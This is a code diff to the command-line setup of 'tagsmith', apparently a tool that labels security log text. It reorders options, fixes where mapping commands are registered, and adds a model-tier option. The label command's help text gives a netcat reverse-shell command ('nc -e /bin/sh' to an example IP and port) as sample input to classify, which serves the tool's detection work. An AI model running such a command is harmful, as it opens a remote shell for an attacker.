@@ -1,15 +1,16 @@
-import { Command, InvalidArgumentError } from "commander";
+import { Command, InvalidArgumentError, Option } from "commander";
 import { TagsmithError } from "../event/tagsmith-error.ts";
+import { type Tier, tiers } from "../label/onnx-encoder.ts";
 import type { ConnectorRegistry } from "./connector-registry.ts";
 import { evalCommand } from "./eval-command.ts";
 import { exitCodeOf, exitCodes } from "./exit-code.ts";
 import { labelCommand } from "./label-command.ts";
-import { normalizeCommand } from "./normalize-command.ts";
 import { addMappingCommands } from "./mapping-commands.ts";
+import { normalizeCommand } from "./normalize-command.ts";
 import { demoCommand, runCommand } from "./run-command.ts";
 import { scoreCommand } from "./score-command.ts";
-import { addSigmaCommands } from "./sigma-commands.ts";
 import { addServerCommands } from "./server-commands.ts";
+import { addSigmaCommands } from "./sigma-commands.ts";
 import { tagsCommand } from "./tags-command.ts";
 import { oneLine, printable, type Terminal } from "./terminal.ts";
 
@@ -36,12 +37,12 @@ export async function runProgram(
       "\nExit codes: 0 done, 1 unexpected, 2 usage or configuration, 3 input, 4 output, 5 model, 6 state, 130 stopped.\n",
     );
   addPipelineCommands(program, run, registry, terminal);
-  addTextCommands(program, run, registry, terminal);
   addServerCommands(program, run, registry, terminal);
+  addTextCommands(program, run, registry, terminal);
+  addMappingCommands(program, run, registry, terminal);
   addSigmaCommands(program, run, terminal);
   try {
     await program.parseAsync([...argv], { from: "user" });
-  addMappingCommands(program, run, registry, terminal);
     return code;
   } catch (error) {
     return reportError(error, terminal);
@@ -80,10 +81,10 @@ function addPipelineCommands(program: Command, run: Run, registry: ConnectorRegi
     .requiredOption("--input <file>", "NDJSON, JSON, text lines, .gz; - for standard input")
     .option("--output <file>", "write results as NDJSON")
     .option("--mappings <folder>", "mappings instead of the bundled ones")
-    .option("--json", "print results as NDJSON", false)
-    .option("--explain", "also every mapping tried, and where text and session come from", false)
     .option("--extra <path...>", "folders or files whose mappings override or add")
     .option("--config <file>", "mappings as a configuration says")
+    .option("--json", "print results as NDJSON", false)
+    .option("--explain", "also every mapping tried, and where text and session come from", false)
     .addHelpText("after", "\nExample:\n  tagsmith normalize --input samples/data/audit.log")
     .action((options: Parameters<typeof normalizeCommand>[0]) =>
       run(() => normalizeCommand(options, registry, terminal)),
@@ -99,13 +100,17 @@ function addTextCommands(program: Command, run: Run, registry: ConnectorRegistry
     .option("--output <file>", "file for the prediction rows; default: standard output")
     .option("--model <folder>", "artifact instead of the bundled one")
     .option("--top-k <n>", "labels a text", wholeNumber, 5)
+    .addOption(new Option("--tier <tier>", "how much of the model is asked").choices(tiers).default("balanced"))
     .option("--json", "print prediction rows", false)
     .addHelpText(
       "after",
       "\nExamples:\n  tagsmith label 'nc -e /bin/sh 203.0.113.10 4444'\n  tagsmith label --input rows.ndjson --output predictions.jsonl",
     )
     .action(
-      (texts: string[], options: { input?: string; output?: string; model?: string; topK: number; json: boolean }) =>
+      (
+        texts: string[],
+        options: { input?: string; output?: string; model?: string; topK: number; tier: Tier; json: boolean },
+      ) =>
         run(() => {
           if ((texts.length === 0) === (options.input === undefined)) {
             throw new TagsmithError("option_invalid", "label takes either texts or --input FILE.", "exit");
